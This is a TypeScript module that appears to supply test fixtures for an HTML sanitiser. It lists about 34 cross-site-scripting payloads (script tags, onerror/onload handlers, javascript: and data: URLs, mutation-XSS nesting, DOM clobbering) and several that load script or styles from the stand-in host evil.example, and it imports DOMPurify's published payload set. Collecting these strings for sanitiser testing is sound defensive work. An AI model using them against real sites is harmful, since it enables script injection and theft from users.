import published from './published-payloads.json' with { type: 'json' }

/** Known ways to run a script from HTML; each would call `hit()`. */
export const attacks = [
  '<script>hit()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<img src=x onerror=hit()>',
  '<img src="/media/x.jpg" onload="hit()" srcset="//evil.example/x 1x">',
  '<img/src="/media/x"/onerror=hit()>',
  '<svg onload=hit()><script>hit()</script></svg>',
  '<svg><style><img src=x onerror=hit()></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<p title="<img src=x onerror=hit()>">x</p>',
  '<textarea><img title="</textarea><img src=x onerror=hit()>"></textarea>',
  '<a href="javascript:hit()">x</a>',
  '<a href=" &#106;avascript:hit()">x</a>',
  '<a href="jav&#x09;ascript:hit()">x</a>',
  '<a href="java\u0000script:hit()">x</a>',
  '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<a href="vbscript:hit()">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example" target="_top" onclick="hit()">x</a>',
  '<iframe srcdoc="<script>hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object><embed src="javascript:hit()">',
  '<form action="javascript:hit()"><button formaction="javascript:hit()">x</button></form>',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()><summary>x</summary></details>',
  '<video><source onerror=hit()></video><audio src=x onerror=hit()></audio>',
  '<p style="background:url(javascript:hit())">x</p><style>@import "//evil.example";</style>',
  '<base href="//evil.example/"><link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
  '<template><script>hit()</script></template>',
  '<!--><script>hit()</script>-->',
  '<![CDATA[<script>hit()</script>]]>',
  '<xmp><p title="</xmp><script>hit()</script>"></xmp>',
  '<p id="__NEXT_DATA__" name="x" class="y">x</p>',
]

/** What DOMPurify publishes to test sanitisers with; most of them would call `alert()`. */
export const publishedAttacks: readonly string[] = published.payloads
